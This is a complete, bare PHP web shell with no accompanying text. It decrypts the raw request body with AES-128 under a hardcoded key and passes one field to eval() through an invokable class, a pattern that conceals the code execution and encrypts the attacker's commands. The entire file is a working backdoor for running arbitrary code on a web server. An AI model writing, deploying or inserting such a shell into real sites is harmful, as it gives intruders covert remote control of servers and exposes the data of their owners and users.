<?php
$k = "0123456789abcdef";
$d = openssl_decrypt(file_get_contents("php://input"), "AES128", $k);
$a = explode("|", $d);
class Q { function __invoke($p) { eval($p); } }
call_user_func(new Q(), $a[1]);
